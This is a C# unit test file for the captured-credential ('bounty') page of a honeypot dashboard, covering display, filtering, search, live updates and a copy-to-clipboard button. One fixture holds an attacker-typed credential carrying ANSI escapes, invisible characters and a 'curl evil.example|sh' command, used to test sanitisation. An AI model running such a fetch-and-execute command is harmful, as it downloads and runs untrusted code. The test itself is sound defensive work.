using Bunit;
using Decnet.Core.Bounty;
using Decnet.Core.Notifications;
using Decnet.Core.Storage;
using Decnet.Core.Users;
using Decnet.Tests.Infrastructure;
using Decnet.Tests.Web.Components;
using Decnet.Web.Bounty.Pages;
using Microsoft.EntityFrameworkCore;
using Microsoft.Extensions.DependencyInjection;

namespace Decnet.Tests.Bounty;

[Trait("Category", TestCategories.Unit)]
public sealed class BountyPageTests : ComponentTestContext
{
    public override async ValueTask InitializeAsync()
    {
        await base.InitializeAsync();
        Services.AddSingleton(Bed.Services.GetRequiredService<BountyQuery>());
        Services.AddSingleton(Bed.Services.GetRequiredService<NotificationHub>());
        await AddAsync(
            new BountyRecord { Timestamp = new DateTime(2026, 4, 18, 10, 0, 0), Decky = "web-1", Service = "http", AttackerIp = "203.0.113.1", BountyType = "credential",
                Payload = """{"username":"admin","password":"s3cret!","method":"password"}""", DedupKey = "k1" },
            new BountyRecord { Timestamp = new DateTime(2026, 4, 18, 10, 0, 1), Decky = "ssh-1", Service = "ssh", AttackerIp = "203.0.113.2", BountyType = "fingerprint",
                Payload = """{"fingerprint_type":"ssh_client","value":"SSH-2.0-Go","hassh":"abc"}""", DedupKey = "k2" });
    }

    private async Task AddAsync(params BountyRecord[] records)
    {
        await using var db = await Bed.Services.GetRequiredService<IDbContextFactory<DecnetDbContext>>().CreateDbContextAsync();
        db.Bounties.AddRange(records);
        await db.SaveChangesAsync();
    }

    [Theory]
    [InlineData(UserRole.Admin)]
    [InlineData(UserRole.Viewer)]
    public async Task Admins_and_viewers_see_credentials_and_fingerprints(UserRole role)
    {
        SignIn(await Bed.CreateActiveUserAsync("someone", "someone-password-1", role));

        var cut = Render<BountyVault>();

        cut.WaitForAssertion(() => Assert.Equal(2, cut.FindAll("[data-testid=bounty-row]").Count));
        var credential = cut.Find("[data-testid=credential]");
        Assert.Contains("admin", credential.TextContent, StringComparison.Ordinal);
        Assert.Contains("s3cret!", credential.TextContent, StringComparison.Ordinal);
        Assert.NotNull(cut.Find("[data-testid=copy-credential]"));
        var fingerprint = cut.Find("[data-testid=fingerprint]").TextContent;
        Assert.Contains("ssh_client", fingerprint, StringComparison.Ordinal);
        Assert.Contains("SSH-2.0-Go", fingerprint, StringComparison.Ordinal);
        Assert.Contains("hassh=abc", fingerprint, StringComparison.Ordinal);
    }

    [Fact]
    public async Task A_login_the_decky_accepted_is_marked_apart_from_refused_ones()
    {
        await AddAsync(
            new BountyRecord { Timestamp = new DateTime(2026, 4, 18, 10, 0, 2), Decky = "ssh-1", Service = "ssh", AttackerIp = "203.0.113.3", BountyType = "credential",
                Payload = """{"username":"root","password":"123456","method":"password","outcome":"failure"}""", DedupKey = "k3" },
            new BountyRecord { Timestamp = new DateTime(2026, 4, 18, 10, 0, 3), Decky = "ssh-1", Service = "ssh", AttackerIp = "203.0.113.3", BountyType = "credential",
                Payload = """{"username":"root","password":"admin","method":"password","outcome":"success"}""", DedupKey = "k4" });
        SignIn(await Bed.CreateActiveUserAsync("reader", "reader-password-1", UserRole.Viewer));

        var cut = Render<BountyVault>();

        cut.WaitForAssertion(() => Assert.Equal(4, cut.FindAll("[data-testid=bounty-row]").Count));
        var accepted = Assert.Single(cut.FindAll("[data-testid=bounty-row]"), r => r.ClassList.Contains("accepted"));
        Assert.Contains("root / admin", accepted.QuerySelector("[data-testid=credential]")!.TextContent, StringComparison.Ordinal);
        Assert.Contains("login succeeded", accepted.QuerySelector("[data-testid=credential-accepted]")!.TextContent, StringComparison.Ordinal);
        var refused = Assert.Single(cut.FindAll("[data-testid=credential-refused]"));
        Assert.Contains("123456", refused.Closest("[data-testid=credential]")!.TextContent, StringComparison.Ordinal);
        // The outcome is a badge, not one more key=value chip.
        Assert.DoesNotContain("outcome=", cut.Find("[data-testid=bounty-table]").TextContent, StringComparison.Ordinal);
        // An outcome the service did not report (web form, MySQL) claims neither.
        var unknown = Assert.Single(cut.FindAll("[data-testid=credential]"), c => c.TextContent.Contains("s3cret!", StringComparison.Ordinal));
        Assert.Null(unknown.QuerySelector("[data-testid=credential-accepted]"));
        Assert.Null(unknown.QuerySelector("[data-testid=credential-refused]"));
    }

    [Fact]
    public async Task The_type_filter_narrows_the_table()
    {
        SignIn(await Bed.CreateActiveUserAsync("reader", "reader-password-1", UserRole.Viewer));
        var cut = Render<BountyVault>();
        cut.WaitForAssertion(() => Assert.Equal(2, cut.FindAll("[data-testid=bounty-row]").Count));

        cut.Find("[data-testid=filter-fingerprint]").Click();
        cut.WaitForAssertion(() => Assert.Single(cut.FindAll("[data-testid=bounty-row]")));
        Assert.Empty(cut.FindAll("[data-testid=credential]"));

        cut.Find("[data-testid=filter-payload]").Click();
        cut.WaitForAssertion(() => Assert.NotNull(cut.Find("[data-testid=bounty-empty]")));

        cut.Find("[data-testid=filter-all]").Click();
        cut.WaitForAssertion(() => Assert.Equal(2, cut.FindAll("[data-testid=bounty-row]").Count));
    }

    [Fact]
    public async Task The_search_box_filters_on_payload_text()
    {
        SignIn(await Bed.CreateActiveUserAsync("reader", "reader-password-1", UserRole.Viewer));
        var cut = Render<BountyVault>();
        cut.WaitForAssertion(() => Assert.Equal(2, cut.FindAll("[data-testid=bounty-row]").Count));

        cut.Find("input[data-testid=bounty-search]").Change("SSH-2.0");

        cut.WaitForAssertion(() => Assert.Single(cut.FindAll("[data-testid=bounty-row]")));
        Assert.Contains("ssh-1", cut.Find("[data-testid=bounty-row]").TextContent, StringComparison.Ordinal);
    }

    [Fact]
    public async Task The_copy_button_puts_user_and_password_on_the_clipboard()
    {
        SignIn(await Bed.CreateActiveUserAsync("reader", "reader-password-1", UserRole.Viewer));
        var cut = Render<BountyVault>();
        cut.WaitForAssertion(() => cut.Find("[data-testid=copy-credential]"));

        // Find and click in one dispatch: a later render (loads complete asynchronously) cannot come between.
        await cut.InvokeAsync(() => cut.Find("[data-testid=copy-credential]").Click());

        cut.WaitForAssertion(() => Assert.Single(JSInterop.Invocations, i => i.Identifier == "navigator.clipboard.writeText"));
        var call = Assert.Single(JSInterop.Invocations, i => i.Identifier == "navigator.clipboard.writeText");
        Assert.Equal("admin:s3cret!", call.Arguments[0]);
    }

    [Fact]
    public async Task The_copy_button_strips_control_and_invisible_characters_the_attacker_put_in_a_credential()
    {
        // Captured as typed at a decky's prompt: a newline that would run a command when pasted into a
        // shell, an ANSI escape, a right-to-left override and a zero-width space.
        await AddAsync(new BountyRecord { Timestamp = new DateTime(2026, 4, 18, 11, 0, 0), Decky = "ssh-1", Service = "ssh", AttackerIp = "203.0.113.66",
            BountyType = "credential", Payload = """{"username":"root\r\n","password":"pw\u001b[2J;\ncurl evil.example|sh\u202E\u200B"}""", DedupKey = "k-hostile" });
        SignIn(await Bed.CreateActiveUserAsync("reader", "reader-password-1", UserRole.Viewer));
        var cut = Render<BountyVault>();
        cut.WaitForAssertion(() => Assert.Equal(3, cut.FindAll("[data-testid=bounty-row]").Count));

        await cut.InvokeAsync(() =>
        {
            var hostile = cut.FindAll("[data-testid=bounty-row]").Single(r => r.TextContent.Contains("203.0.113.66", StringComparison.Ordinal));
            hostile.QuerySelector("[data-testid=copy-credential]")!.Click();
        });

        cut.WaitForAssertion(() => Assert.Single(JSInterop.Invocations, i => i.Identifier == "navigator.clipboard.writeText"));
        var call = Assert.Single(JSInterop.Invocations, i => i.Identifier == "navigator.clipboard.writeText");
        Assert.Equal("root:pw[2J;curl evil.example|sh", call.Arguments[0]);
    }

    [Fact]
    public async Task New_bounties_appear_live()
    {
        SignIn(await Bed.CreateActiveUserAsync("reader", "reader-password-1", UserRole.Viewer));
        var cut = Render<BountyVault>();
        cut.WaitForAssertion(() => Assert.Equal(2, cut.FindAll("[data-testid=bounty-row]").Count));

        await AddAsync(new BountyRecord { Timestamp = new DateTime(2026, 4, 18, 10, 0, 5), Decky = "ftp-1", Service = "ftp", AttackerIp = "203.0.113.9",
            BountyType = "credential", Payload = """{"username":"anonymous","password":"x@y"}""", DedupKey = "k3" });
        Bed.Services.GetRequiredService<BountyWriter>().Committed(1);

        cut.WaitForAssertion(() => Assert.Equal(3, cut.FindAll("[data-testid=bounty-row]").Count));
        Assert.Contains("anonymous", cut.FindAll("[data-testid=bounty-row]")[0].TextContent, StringComparison.Ordinal);
    }
}
